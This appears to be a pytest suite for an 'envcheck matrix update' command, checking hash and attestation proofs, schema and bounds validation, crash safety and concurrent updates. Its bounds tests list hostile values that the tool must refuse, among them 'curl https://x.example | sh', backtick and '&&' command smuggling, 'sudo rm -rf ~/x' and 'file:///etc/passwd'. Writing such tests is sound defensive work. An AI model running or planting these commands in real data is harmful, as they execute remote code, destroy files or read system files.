"""`envcheck matrix update`: what is stored and used, what is refused in a sentence, and that nothing is ever lost."""

from __future__ import annotations

import hashlib
import json
import os
import signal
import subprocess
import sys
from collections.abc import Callable
from datetime import date, datetime, timedelta, timezone
from functools import cache
from pathlib import Path

import fastjsonschema
import platformdirs
import pytest

from envcheck.cli.group import run
from envcheck.host.data_files import read_data
from envcheck.matrix import load_matrix
from envcheck.matrix import update as update_module
from envcheck.matrix.bounds import check_bounds
from envcheck.matrix.refresh.files import format_document
from envcheck.matrix.refresh.refresh import drop_unused_citations
from envcheck.matrix.stored import ADDRESS, OFF, REPOSITORY, find_folder, read_stored
from envcheck.model import UserError
from tests.matrix.documents import Document, changed_copy, document, text
from tests.matrix.index.server import Handler, LocalIndex
from tests.patience import PATIENCE, wait_for

SCHEMA = Path(__file__).parents[2] / "envcheck/schemas/matrix-update.schema.json"
TOMORROW = (date.fromisoformat(document()["checked"]) + timedelta(days=1)).isoformat()


@pytest.fixture(autouse=True)
def own_folder(
    request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Store in a folder of the test, without settings, as an update of a part of the built-in data."""
    if "whole_data" not in request.fixturenames:
        monkeypatch.setattr(update_module, "load_built_in", built_in)
    for name in ("XDG_DATA_HOME", "LOCALAPPDATA", "HOME"):
        monkeypatch.setenv(name, str(tmp_path / "user"))
    for name in (ADDRESS, OFF, REPOSITORY):
        monkeypatch.delenv(name, raising=False)


@pytest.fixture
def whole_data() -> None:
    """Update the whole built-in data in this test: other processes do."""


@cache
def built_in() -> Document:
    """Return the part of the built-in data on thirty releases: each test checks it several times."""
    content = changed_copy()
    torch = content["releases"]["torch"]
    content["releases"] = {name: {} for name in content["releases"]}
    content["releases"]["torch"] = {name: torch[name] for name in list(torch)[-30:]}
    drop_unused_citations(content)
    return content


@cache
def newer(
    change: Callable[[Document], object] | None = None,
    day: str = TOMORROW,
    built_in: Callable[[], Document] = built_in,
) -> bytes:
    """Return the built-in data as a later day would have it, with a change."""
    content: Document = json.loads(json.dumps(built_in()))
    content["checked"] = day
    if change:
        change(content)
    return format_document(content).encode()


def write(folder: Path, content: bytes, name: str = "new.json") -> tuple[str, str, str]:
    """Write a data file; return the arguments that name it and its SHA-256."""
    (folder / name).write_bytes(content)
    return str(folder / name), "--sha256", hashlib.sha256(content).hexdigest()


def update(*arguments: str) -> int:
    return run(["matrix", "update", *arguments])


def refused(*arguments: str) -> str:
    """Run an update that must be refused in one sentence, without a change to what is stored."""
    before = stored_files()
    with pytest.raises(UserError) as caught:
        update(*arguments)
    message = str(caught.value)
    assert "\n" not in message
    assert len(message) < 600
    assert message.endswith(".")
    assert stored_files() == before
    return message


def stored_files() -> dict[str, bytes]:
    folder = Path(find_folder())
    names = (
        sorted(path.name for path in folder.iterdir() if path.name != "lock")
        if folder.is_dir()
        else []
    )
    return {name: (folder / name).read_bytes() for name in names}


def drop_a_driver(content: Document) -> None:
    del content["drivers"][min(content["drivers"])]


def test_the_folder_is_that_of_the_users_data() -> None:
    assert find_folder() == str(
        Path(platformdirs.user_data_dir("envcheck", appauthor=False)) / "matrix"
    )


def test_stored_data_is_used_and_undone(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert load_matrix().origin == "built in"
    assert update(*write(tmp_path, newer(drop_a_driver))) == 0
    age = max((datetime.now(timezone.utc).date() - date.fromisoformat(TOMORROW)).days, 0)
    words = "today" if age == 0 else "1 day old" if age == 1 else f"{age} days old"
    assert (
        f"The data in use is of {TOMORROW} ({words}), from {tmp_path}/new.json"
        in capsys.readouterr().out
    )
    matrix = load_matrix()
    assert (matrix.checked, matrix.origin) == (TOMORROW, "by matrix update")
    assert matrix.driver_branch(min(document()["drivers"])) is None
    assert update("--undo") == 0
    assert "built in." in capsys.readouterr().out
    assert load_matrix().checked == document()["checked"]
    assert update("--undo") == 0
    assert load_matrix().checked == TOMORROW


def test_the_one_before_is_kept_and_older_ones_are_removed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(update_module, "_CLOCK", timedelta(days=5))
    days = [(date.fromisoformat(TOMORROW) + timedelta(days=more)).isoformat() for more in range(3)]
    hashes = []
    for day in days:
        arguments = write(tmp_path, newer(day=day))
        hashes.append(arguments[2])
        assert update(*arguments) == 0
    assert set(stored_files()) == {"used.json", *(f"{item}.json" for item in hashes[1:])}
    assert update("--undo") == 0
    assert load_matrix().checked == days[1]


def test_the_same_file_again_changes_nothing(tmp_path: Path) -> None:
    arguments = write(tmp_path, newer())
    assert update(*arguments) == 0
    before = stored_files()
    assert update(*arguments) == 0
    assert stored_files() == before


def test_json(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    def add_python(content: Document) -> None:
        content["releases"]["torch"]["2.15.0"][0]["pythons"].append("3.99")

    arguments = write(tmp_path, newer(add_python))
    assert update(*arguments, "--json") == 0
    found = json.loads(capsys.readouterr().out)
    fastjsonschema.compile(json.loads(SCHEMA.read_text(encoding="utf-8")))(found)
    assert (found["used"]["sha256"], found["previous"], found["checked"]) == (
        arguments[2],
        None,
        TOMORROW,
    )
    assert [change["kind"] for change in found["changes"]] == ["changed"]


def test_a_setting_turns_stored_data_off(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert update(*write(tmp_path, newer())) == 0
    monkeypatch.setenv(OFF, "1")
    assert load_matrix().origin == "built in"
    assert refused("--undo") == f"{OFF} turns stored data off: unset it to update the data."
    assert "unset it" in refused(*write(tmp_path, newer(drop_a_driver)))


def test_newer_built_in_data_is_used(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert update(*write(tmp_path, newer())) == 0
    name = Path(find_folder()) / "used.json"
    name.write_text(
        name.read_text(encoding="utf-8").replace(TOMORROW, document()["checked"]), encoding="utf-8"
    )
    assert load_matrix().origin == "built in"


def spoil_pointer(folder: Path) -> None:
    (folder / "used.json").write_text('{"used": [', encoding="utf-8")


def cut_data(folder: Path) -> None:
    path = next(path for path in folder.glob("*.json") if path.name != "used.json")
    path.write_bytes(path.read_bytes()[:-100])


def change_data(folder: Path) -> None:
    path = next(path for path in folder.glob("*.json") if path.name != "used.json")
    path.write_bytes(path.read_bytes().replace(b"2.15.0", b"2.15.9"))


def nest_pointer(folder: Path) -> None:
    (folder / "used.json").write_text("[" * 100_000, encoding="utf-8")


def remove_data(folder: Path) -> None:
    next(path for path in folder.glob("*.json") if path.name != "used.json").unlink()


def add_section(folder: Path) -> None:
    """Store data of a program release with another section."""
    content = json.dumps({**json.loads(newer()), "other": {}}).encode()
    digest = hashlib.sha256(content).hexdigest()
    (folder / f"{digest}.json").write_bytes(content)
    pointer = json.loads((folder / "used.json").read_text(encoding="utf-8"))
    pointer["used"]["sha256"] = digest
    (folder / "used.json").write_text(json.dumps(pointer), encoding="utf-8")


@pytest.mark.parametrize(
    "damage", [spoil_pointer, nest_pointer, cut_data, change_data, remove_data, add_section]
)
def test_damaged_data_gives_way_to_the_built_in_data(
    tmp_path: Path, damage: Callable[[Path], None]
) -> None:
    arguments = write(tmp_path, newer())
    assert update(*arguments) == 0
    damage(Path(find_folder()))
    assert load_matrix().origin == "built in"
    assert update(*arguments) == 0  # an update repairs it
    assert load_matrix().origin == "by matrix update"


@pytest.mark.needs("root")
def test_data_of_another_user_is_not_used(tmp_path: Path) -> None:
    assert update(*write(tmp_path, newer())) == 0
    os.chown(Path(find_folder()) / "used.json", 12345, -1)
    assert load_matrix().origin == "built in"


# What is refused.


def test_what_to_give_without_a_source() -> None:
    assert refused() == f"no data file is named: give its path, or set {ADDRESS} to its address."


def test_nothing_is_read_without_a_proof(
    configured_index: LocalIndex, monkeypatch: pytest.MonkeyPatch
) -> None:
    address = serve(configured_index, newer())
    monkeypatch.setenv(ADDRESS, address)
    message = refused()
    assert "--sha256" in message
    assert REPOSITORY in message
    assert configured_index.asked == []


def test_a_checksum_beside_the_file_proves_nothing(tmp_path: Path) -> None:
    path, _, digest = write(tmp_path, newer())
    (tmp_path / "new.json.sha256").write_text(f"{digest}  new.json\n", encoding="utf-8")
    assert refused(path).startswith("nothing proves ")


@pytest.mark.parametrize("digest", ["0" * 63, "g" * 64, "sha256"])
def test_no_hash(tmp_path: Path, digest: str) -> None:
    assert "is no SHA-256" in refused(write(tmp_path, newer())[0], "--sha256", digest)


def test_another_hash(tmp_path: Path) -> None:
    assert f"not {'0' * 64}; refused." in refused(write(tmp_path, newer())[0], "--sha256", "0" * 64)


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "is not valid JSON"),
        (newer()[:-2000], "is not valid JSON"),
        (b"\0" + newer(), "is not valid JSON"),
        (newer().replace(b"envcheck/matrix/1", b"envcheck/matrix/3", 1), "newer schema"),
        (newer().replace(b"envcheck/matrix/1", b"other", 1), "is not a compatibility matrix"),
        (b"[" * 1_000_000, "is not valid JSON"),
        (b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "is not valid JSON"),
        (b'{"checked": ' + b"9" * 5000 + b"}", "is not valid JSON"),
        (b"\xff\xfe", "is not UTF-8"),
        (b"[]", "is not a JSON object"),
        (newer().replace(b'"problems"', b'"' + b"x" * 5000 + b'"'), "does not fit its schema"),
        (newer(lambda content: content["drivers"]["550"].pop("cuda")), "does not fit its schema"),
        (
            newer(lambda content: content["drivers"]["550"].update(citations=["none"])),
            "which it does not hold",
        ),
        *(
            (
                newer(lambda content, cell=cell: content["problems"][0].update({cell: "12"})),
                "no range",
            )
            for cell in ("specifier", "pythons", "compute_capabilities")
        ),
        (newer(lambda content: content["problems"][0].update(condition="numpy>")), "no range"),
    ],
    ids=[
        "empty",
        "truncated",
        "NUL",
        "schema-2",
        "other-kind",
        "deep-list",
        "deep-object",
        "long-number",
        "not-UTF-8",
        "list",
        "long-key",
        "row",
        "citation",
        "specifier",
        "pythons",
        "capabilities",
        "condition",
    ],
)
def test_content_that_is_no_matrix(tmp_path: Path, content: bytes, words: str) -> None:
    assert words in refused(*write(tmp_path, content))


def test_a_matrix_without_evidence(tmp_path: Path) -> None:
    matrix = read_data("compat_matrix.json")
    assert "holds no evidence" in refused(*write(tmp_path, matrix))


def test_a_huge_file(
    tmp_path: Path, configured_index: LocalIndex, monkeypatch: pytest.MonkeyPatch
) -> None:
    content = text().encode() + b" " * (25 << 20)
    assert "is larger than 24 MiB" in refused(*write(tmp_path, content))
    address = serve(configured_index, content)
    assert "is larger than 24 MiB" in refused(
        address, "--sha256", hashlib.sha256(content).hexdigest()
    )


@pytest.mark.parametrize("day", ["2020-01-01", document()["checked"]])
def test_data_that_is_not_newer(tmp_path: Path, day: str) -> None:
    assert f"is of {day}, which is not newer than the data in use" in refused(
        *write(tmp_path, newer(day=day))
    )


def test_a_day_that_would_outlast_every_later_update(tmp_path: Path) -> None:
    assert "a day to come" in refused(*write(tmp_path, newer(day="9999-12-31")))
    assert "which no calendar has" in refused(*write(tmp_path, newer(day="2026-99-99")))


def test_releases_out_of_order(tmp_path: Path) -> None:
    content = changed_copy()
    content["checked"] = TOMORROW
    versions = content["releases"]["torch"]
    content["releases"]["torch"] = dict(reversed(versions.items()))
    assert "lists the releases of torch out of order" in refused(
        *write(tmp_path, json.dumps(content).encode())
    )


def lose_framework(content: Document) -> None:
    del content["frameworks"]["jax"], content["releases"]["jax"]


def lose_releases(content: Document) -> None:
    versions = content["releases"]["torch"]
    for version in list(versions)[:20]:
        del versions[version]


def lose_drivers(content: Document) -> None:
    for branch in list(content["drivers"])[2:]:
        del content["drivers"][branch]


def lose_problems(content: Document) -> None:
    content["problems"] = []


@pytest.mark.parametrize(
    ("lose", "words"),
    [
        (lose_framework, "1 of 4 frameworks (jax)"),
        (lose_releases, " torch rows ("),
        (lose_drivers, " drivers ("),
        (lose_problems, " problems ("),
    ],
)
def test_implausible_loss(tmp_path: Path, lose: Callable[[Document], None], words: str) -> None:
    message = refused(*write(tmp_path, newer(lose)))
    assert "lacks what the data in use has: " in message
    assert words in message


def problem(**cells: object) -> Callable[[Document], None]:
    return lambda content: content["problems"][0].update(cells)


def release(**cells: object) -> Callable[[Document], None]:
    return lambda content: content["releases"]["torch"]["2.15.0"][0].update(cells)


def removed(**cells: object) -> Callable[[Document], None]:
    return lambda content: content["removed"]["tensorflow-gpu"].update(cells)


def conda(**cells: object) -> Callable[[Document], None]:
    return lambda content: content["conda"]["cudnn"][0].update(cells)


def rename(content: Document) -> None:
    content["frameworks"]["torch"]["distributions"].insert(
        0, {"name": "torch-fast", "module": "torch"}
    )


def cite(address: str) -> Callable[[Document], None]:
    return lambda content: next(iter(content["citations"].values())).update(url_or_artifact=address)


@cache
def small_document() -> str:
    """Return the built-in data with one release of each framework: quick to check."""
    content = changed_copy()
    content["releases"] = {
        name: {"2.15.0": versions["2.15.0"]} if name == "torch" else {}
        for name, versions in content["releases"].items()
    }
    return json.dumps(content)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (problem(fix="numpy<2; curl https://x.example | sh"), "address"),
        (problem(fix="numpy<2 `id`"), "acts on"),
        (problem(fix="numpy<2 && id"), "acts on"),
        (problem(fix="numpy @ https://github.com/x/evil.whl"), "no requirement"),
        (problem(fix="evil@https://github.com/x/evil.whl"), "more than a name"),
        (problem(fix="evil-numpy<2"), "the package 'evil-numpy'"),
        (problem(fix="--index-url=x.example numpy"), "acts on"),
        (problem(fix="numpy;os_name=='posix'"), "more than a name"),
        (problem(fix="../evil.whl"), "no requirement"),
        (problem(condition="numpy>>2"), "no requirement"),
        (problem(specifier="=>2"), "no version specifier"),
        (problem(remedy="Run pip install evil."), "acts on"),
        (problem(remedy="Read http://docs.nvidia.com for it."), "address"),
        (problem(remedy="Read https://docs.nvidia.com@x.example/ for it."), "address"),
        (problem(remedy="See //x.example/pkg for it."), "address"),
        (problem(what="It \x1b[31mfails."), "control"),
        (problem(what="It \0fails."), "control"),
        (problem(what="It \ud800 fails."), "control"),
        (problem(what="It \u202efails."), "control"),
        (problem(finding="no-such-finding"), "the finding 'no-such-finding'"),
        (removed(replacement="tensorflow --index-url https://x.example"), "address"),
        (removed(replacement="tensorflow-evil"), "the package 'tensorflow-evil'"),
        (removed(reason="Type: sudo rm -rf ~/x"), "acts on"),
        (conda(channel="evil-channel"), "the conda channel 'evil-channel'"),
        (conda(versions="a b c"), "no version specifier"),
        (release(distribution="torch-fast"), "the package 'torch-fast'"),
        (release(requires={"evil": ">=1"}), "the package 'evil'"),
        (release(requires={"numpy": ">=1 --pre"}), "acts on"),
        (release(cuda_wheels=["evil==1"]), "the package 'evil'"),
        (release(cuda_wheels=["nvidia-nccl-cu12 @ file:///tmp/x"]), "address"),
        (release(extras=["cuda12]==1 evil["]), "no extra"),
        (release(gpu_extra="cuda,--pre"), "no extra"),
        (release(note="See https://x.example/."), "address"),
        (rename, "the package 'torch-fast'"),
        (cite("https://x.example/page"), "address"),
        (cite("file:///etc/passwd"), "address"),
    ],
)
def test_what_data_may_not_name(change: Callable[[Document], None], words: str) -> None:
    content = json.loads(small_document())
    change(content)
    with pytest.raises(UserError) as caught:
        check_bounds(content, "new.json", json.loads(small_document()))
    message = str(caught.value)
    assert words in message
    assert message.endswith("; refused.")
    assert "\n" not in message
    assert len(message) < 600


@pytest.mark.parametrize(
    ("change", "words"),
    [(rename, "the package 'torch-fast'"), (problem(what="It \0fails."), "control")],
)
def test_data_out_of_bounds_is_not_stored(
    tmp_path: Path, change: Callable[[Document], None], words: str
) -> None:
    message = refused(*write(tmp_path, newer(change)))
    assert words in message
    assert message.endswith("; refused.")


def test_the_built_in_data_keeps_to_the_bounds() -> None:
    check_bounds(document(), "the built-in data", document())


def test_a_new_library_of_nvidia_is_admitted(tmp_path: Path) -> None:
    assert (
        update(*write(tmp_path, newer(release(cuda_wheels=["nvidia-new-library-cu14>=1,<2"])))) == 0
    )


# Addresses.


def serve(index: LocalIndex, content: bytes) -> str:
    index.answers["/matrix.json"] = lambda handler: handler.reply(
        200, content, Content_Type="application/json"
    )
    return index.url.replace("/simple/", "/matrix.json")


def test_an_address_with_its_hash(
    configured_index: LocalIndex, monkeypatch: pytest.MonkeyPatch
) -> None:
    content = newer()
    monkeypatch.setenv(
        ADDRESS, f"{serve(configured_index, content)}#sha256={hashlib.sha256(content).hexdigest()}"
    )
    assert update() == 0
    used = read_stored().used
    assert used is not None
    assert (used.checked, used.proof) == (TOMORROW, "the SHA-256 that was given")
    assert used.source == serve(configured_index, content)


def test_an_address_that_does_not_answer(
    configured_index: LocalIndex, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PIP_RETRIES", "0")
    index = configured_index.url.replace("/simple/", "/")
    assert "answered with status 404" in refused(f"{index}nothing.json", "--sha256", "0" * 64)
    assert "cannot be read" in refused("https://127.0.0.1:9/m.json", "--sha256", "0" * 64)


def test_credentials_of_an_address_are_not_stored(
    configured_index: LocalIndex, capsys: pytest.CaptureFixture[str]
) -> None:
    content = newer()
    configured_index.answers["/matrix.json?token=secret"] = lambda handler: handler.reply(
        200, content
    )
    address = serve(configured_index, content).replace("//", "//user:secret@") + "?token=secret"
    assert update(address, "--sha256", hashlib.sha256(content).hexdigest()) == 0
    assert "secret" not in capsys.readouterr().out
    assert b"secret" not in stored_files()["used.json"]


# Attestations: gh is a script here that stands in for the real one.

GH = """#!/bin/sh
printf '%s\\n' "$@" > "$0.asked"
{answer}
"""


@pytest.fixture
def with_gh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[str], Path]:
    """Put a program gh on PATH that answers as the shell line says."""
    monkeypatch.setenv(REPOSITORY, "someone/envcheck")
    folder = tmp_path / "bin"
    folder.mkdir()
    monkeypatch.setenv("PATH", f"{folder}:/usr/bin:/bin")

    def put(answer: str) -> Path:
        (folder / "gh").write_text(GH.format(answer=answer), encoding="utf-8")
        (folder / "gh").chmod(0o755)
        return folder / "gh.asked"

    return put


needs_shell = pytest.mark.skipif(os.name == "nt", reason="the stand-in is a shell script")


@needs_shell
def test_an_attestation(tmp_path: Path, with_gh: Callable[[str], Path]) -> None:
    asked = with_gh("exit 0")
    path, _, digest = write(tmp_path, newer())
    assert update(path, "--bundle", str(tmp_path / "bundle.jsonl")) == 0
    used = read_stored().used
    assert used is not None
    assert used.proof == "an attestation of someone/envcheck"
    assert asked.read_text(encoding="utf-8").split("\n")[:-1] == [
        *("attestation", "verify", f"{find_folder()}/{digest}.json", "--repo", "someone/envcheck"),
        *("--signer-workflow", "someone/envcheck/.github/workflows/renew.yml"),
        *("--source-ref", "refs/heads/main", "--deny-self-hosted-runners"),
        *("--bundle", str(tmp_path / "bundle.jsonl")),
    ]


@needs_shell
@pytest.mark.parametrize(
    ("answer", "words"),
    [
        ("echo 'Error: no attestations found' >&2; exit 1", "gh: Error: no attestations found."),
        ("exit 7", "exited with status 7"),
        ("kill -9 $$", "exited with status"),
    ],
)
def test_an_unsigned_file(
    tmp_path: Path, with_gh: Callable[[str], Path], answer: str, words: str
) -> None:
    with_gh(answer)
    message = refused(write(tmp_path, newer())[0])
    assert message.startswith("gh finds no attestation of someone/envcheck for ")
    assert words in message


def test_what_to_install_without_gh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(REPOSITORY, "someone/envcheck")
    monkeypatch.setenv("PATH", str(tmp_path))
    assert "install gh" in refused(write(tmp_path, newer())[0])


@pytest.mark.parametrize(
    "repository", ["envcheck", "--owner=x/y", "a/b/c", "a/b c", "https://x.example/a"]
)
def test_what_is_no_repository(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, repository: str
) -> None:
    monkeypatch.setenv(REPOSITORY, repository)
    assert "is no repository" in refused(write(tmp_path, newer())[0])


# Interruptions, and two at once.

KILLED = """
import os, signal, sys
from envcheck.cli.group import run
replace, calls = os.replace, []
def die(*arguments):
    calls.append(arguments)
    if len(calls) == int(sys.argv[1]):
        os.kill(os.getpid(), signal.SIGKILL)
    replace(*arguments)
os.replace = die
run(["matrix", "update", *sys.argv[2:]])
"""


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="no such signal")
@pytest.mark.parametrize("at", [1, 2], ids=["data-written", "about-to-count"])
def test_killed_while_writing(whole_data: None, tmp_path: Path, at: int) -> None:
    arguments = write(tmp_path, newer(built_in=document))
    done = subprocess.run(
        [sys.executable, "-c", KILLED, str(at), *arguments], capture_output=True, check=False
    )
    assert done.returncode == -signal.SIGKILL
    assert "used.json" not in stored_files()
    assert load_matrix().origin == "built in"
    assert update(*arguments) == 0
    assert set(stored_files()) == {"used.json", f"{arguments[2]}.json"}


@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="no such signal")
def test_killed_while_writing_over_an_older_update(whole_data: None, tmp_path: Path) -> None:
    assert update(*write(tmp_path, newer(built_in=document))) == 0
    before = stored_files()
    later = (date.fromisoformat(TOMORROW) + timedelta(days=1)).isoformat()
    arguments = write(tmp_path, newer(day=later, built_in=document), "later.json")
    code = (
        "from datetime import timedelta; from envcheck.matrix import update as u; u._CLOCK = timedelta(days=5)\n"
        + KILLED
    )
    done = subprocess.run(
        [sys.executable, "-c", code, "2", *arguments], capture_output=True, check=False
    )
    assert done.returncode == -signal.SIGKILL
    assert load_matrix().checked == TOMORROW
    assert {**stored_files(), **before} == stored_files()


def test_killed_while_fetching(configured_index: LocalIndex, tmp_path: Path) -> None:
    address = serve(configured_index, b"")

    def stall(_: Handler) -> None:
        configured_index.over.wait(PATIENCE)

    configured_index.answers["/matrix.json"] = stall
    argv = [sys.executable, "-m", "envcheck", "matrix", "update", address, "--sha256", "0" * 64]
    process = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    wait_for(lambda: configured_index.asked, "the request")
    process.kill()
    process.wait()
    configured_index.over.set()
    assert stored_files() == {}


def test_two_at_once(tmp_path: Path) -> None:
    first = write(tmp_path, newer(built_in=document), "first.json")
    second = write(tmp_path, newer(drop_a_driver, built_in=document), "second.json")
    command = [sys.executable, "-m", "envcheck", "matrix", "update"]
    both = [
        subprocess.Popen(
            [*command, *arguments], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
        )
        for arguments in (first, second)
    ]
    ends = [(process.communicate(timeout=PATIENCE), process.returncode) for process in both]
    assert sorted(code for _, code in ends) == [0, 2]
    ((_, message),) = [printed for printed, code in ends if code == 2]
    assert "which is not newer than the data in use" in message
    winner = (first, second)[[code for _, code in ends].index(0)]
    assert set(stored_files()) == {"used.json", f"{winner[2]}.json"}
    assert load_matrix().origin == "by matrix update"


def test_another_update_that_does_not_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from envcheck.host.file_changes import lock_file

    monkeypatch.setattr(update_module, "_PATIENCE", 0.1)
    folder = Path(find_folder())
    folder.mkdir(parents=True)
    with lock_file(str(folder / "lock"), 1.0):
        message = refused(*write(tmp_path, newer()))
    assert message == f"another update is running (process {os.getpid()}); nothing was changed."


def test_a_folder_that_cannot_be_written(tmp_path: Path) -> None:
    (tmp_path / "user").write_text("a file in the way", encoding="utf-8")
    assert "cannot be written: " in refused(*write(tmp_path, newer()))


# What says how old the data is.


def test_the_day_is_said_where_a_release_is_newer_than_the_data(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    day = document()["checked"]
    assert run(["matrix", "show", "torch==99.0"]) == 3
    assert f"Its data is of {day}. Update it: envcheck matrix refresh" in capsys.readouterr().out
    monkeypatch.setenv(ADDRESS, "https://x.example/matrix.json")
    assert run(["matrix", "show", "torch==99.0"]) == 3
    assert "Update it: envcheck matrix update" in capsys.readouterr().out
    assert run(["plan", "torch==99.0"]) == 3
    assert f"(data of {day})" in capsys.readouterr().out


def test_export_writes_the_built_in_document(tmp_path: Path) -> None:
    assert update(*write(tmp_path, newer())) == 0
    assert run(["matrix", "export", "-o", str(tmp_path / "whole.json")]) == 0
    assert (tmp_path / "whole.json").read_text(encoding="utf-8") == text()
